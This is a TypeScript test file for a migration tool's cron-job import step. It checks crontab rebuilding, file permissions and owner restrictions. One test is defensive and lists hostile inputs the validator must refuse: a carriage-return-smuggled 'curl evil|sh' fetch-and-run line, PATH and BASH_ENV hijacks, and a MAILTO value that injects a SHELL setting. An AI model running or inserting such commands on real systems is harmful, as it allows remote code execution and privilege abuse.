import { existsSync, readFileSync, statSync } from "node:fs"
import { dirname } from "node:path"
import { assert, describe, it } from "@effect/vitest"
import type { CronJob, Entity, StepContext, StepFailed } from "@ferry/core"
import { Effect } from "effect"
import { makeCronPart } from "../../src/import/CronPart.ts"
import { failure } from "../Support.ts"
import { makeImportEnv, makeStepContext } from "../support/ImportEnvFixture.ts"

const owner = { _tag: "Account", id: "account:bob", login: "bob" } as unknown as Entity

const cron = (n: number, schedule: string, command: string, fields: Partial<CronJob> = {}): CronJob => ({
  _tag: "CronJob",
  id: `cron:bob:${n}`,
  owner: "account:bob",
  source: { path: "cron/bob", detail: `line ${n}` },
  schedule,
  command,
  user: "bob",
  enabled: true,
  ...fields,
})

const setup = Effect.gen(function* () {
  const env = yield* makeImportEnv()
  yield* env.store.accounts.add({ login: "bob", kind: "client", owner: null })
  env.store.connection.db.prepare("UPDATE accounts SET uid = 2001 WHERE login = 'bob'").run()
  const apply = makeCronPart(env).apply.CronJob
  const run = (job: CronJob, changes: StepContext["decision"]["changes"] = []) => apply(job, makeStepContext(job, [owner, job], changes))
  const file = () => readFileSync(env.layout.crontab("bob"), "utf8")
  const jobs = () =>
    file()
      .split("\n")
      .filter((l) => l !== "" && !l.startsWith("# Crontab"))
  return { env, run, file, jobs }
})

describe("cron jobs (checklist items 44 and 49)", () => {
  it.effect("rebuilds the user's crontab; the same import twice leaves no duplicate", () =>
    Effect.gen(function* () {
      const { env, run, file, jobs } = yield* setup
      const all = [
        cron(1, "*/5 * * * *", "php ~/public_html/cron.php", { mailTo: "ops@example.com" }),
        cron(2, "@daily", "~/bin/backup.sh"),
        cron(3, "0 4 * * *", "~/bin/old.sh", { enabled: false }),
      ]
      for (const job of all) yield* run(job)
      const before = file()
      assert.deepStrictEqual(jobs(), [
        "# disabled: 0 4 * * * ~/bin/old.sh",
        "@daily ~/bin/backup.sh",
        "MAILTO=ops@example.com",
        "*/5 * * * * php ~/public_html/cron.php",
      ])
      for (const job of all) assert.strictEqual((yield* run(job)).outcome, "unchanged")
      assert.strictEqual(file(), before)
      // The same job under another id (a second crontab line) is still one line.
      yield* run(cron(9, "@daily", "~/bin/backup.sh"))
      assert.strictEqual(file(), before)
      assert.strictEqual(statSync(env.layout.crontab("bob")).mode & 0o777, 0o600)
      assert.strictEqual(statSync(dirname(env.layout.crontab("bob"))).mode & 0o777, 0o700)
    }),
  )

  it.effect("refuses environment assignments, @reboot, CR and huge lines with a reason naming the job", () =>
    Effect.gen(function* () {
      const { env, run } = yield* setup
      const cases: Array<[CronJob, string]> = [
        [cron(1, "* * * * *", "SHELL=/bin/bash"), "cron-environment"],
        [cron(2, "* * * * *", "PATH=/tmp/evil:/usr/bin"), "cron-environment"],
        [cron(3, "* * * * *", "BASH_ENV=/home/bob/.x"), "cron-environment"],
        [cron(4, "@reboot", "~/start.sh"), "cron-reboot"],
        [cron(5, "* * * * *", "true\r* * * * * curl evil|sh"), "cron-control-character"],
        [cron(6, "* * * * *", `echo ${"a".repeat(5000)}`), "cron-too-long"],
        [cron(7, "* * * * *", "root /usr/bin/id"), "cron-user-column"],
        [cron(8, "* * * * *", "x", { mailTo: "a@b.test\nSHELL=/bin/sh" }), "cron-mailto"],
      ]
      for (const [job, code] of cases) {
        const error: StepFailed = yield* failure(run(job))
        assert.strictEqual(error.code, code, job.command)
        assert.include(error.reason, "cron job of bob")
      }
      assert.isFalse(existsSync(env.layout.crontab("bob")))
    }),
  )

  it.effect("writes only the owner's own crontab; the plan's user change is followed", () =>
    Effect.gen(function* () {
      const { env, run } = yield* setup
      const error: StepFailed = yield* failure(run(cron(1, "@daily", "x", { user: "root" })))
      assert.strictEqual(error.code, "cron-user")
      assert.isFalse(existsSync(env.layout.crontab("root")))
      yield* run(cron(2, "@daily", "y", { user: "olduser" }), [{ field: "user", from: "olduser", to: "bob" }])
      assert.include(readFileSync(env.layout.crontab("bob"), "utf8"), "@daily y")
    }),
  )
})
